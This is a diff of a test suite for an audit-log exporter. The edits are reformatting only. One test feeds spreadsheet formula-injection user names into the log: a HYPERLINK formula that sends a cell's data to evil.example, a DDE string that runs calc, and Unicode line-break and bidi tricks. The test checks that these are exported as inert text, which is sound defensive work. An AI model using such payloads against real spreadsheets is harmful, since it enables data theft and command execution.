@@ -24,8 +24,7 @@ describe('AuditLog', () => {
     clock += 60_000;
     await audit.record({ username: 'admin', sourceAddress: '::ffff:192.168.1.20', action: 'upgrade.download' });
     expect(await audit.exportText()).toBe(
-      '2026-11-21T05:40:00.000Z admin@127.0.0.1 profile.save mode TFTP -> SFTP, sftp.imageServer "" -> 10.0.0.6, password changed\n' +
-        '2026-11-21T05:41:00.000Z admin@192.168.1.20 upgrade.download\n',
+      '2026-11-21T05:40:00.000Z admin@127.0.0.1 profile.save mode TFTP -> SFTP, sftp.imageServer "" -> 10.0.0.6, password changed\n' + '2026-11-21T05:41:00.000Z admin@192.168.1.20 upgrade.download\n',
     );
     expect(await audit.exportText()).not.toContain('S3cret!pw');
   });
@@ -36,7 +35,7 @@ describe('AuditLog', () => {
   });
 
   it('exports spreadsheet formulas and invisible line breaks from attempted user names as text', async () => {
-    const attempts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', 'ad\u2028min', 'ad\u2029min', 'ad\u0085min', 'ad\u202Enimda', 'tab\tname'];
+    const attempts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', 'ad\u2028min', 'ad\u2029min', 'ad\u0085min', 'ad\u202Enimda', 'tab\tname'];
     for (const username of attempts) await audit.record({ username, sourceAddress: '127.0.0.1', action: 'login.failed', detail: 'unknown user' });
     const lines = (await audit.exportText()).split('\n').filter(Boolean);
     expect(lines).toEqual([
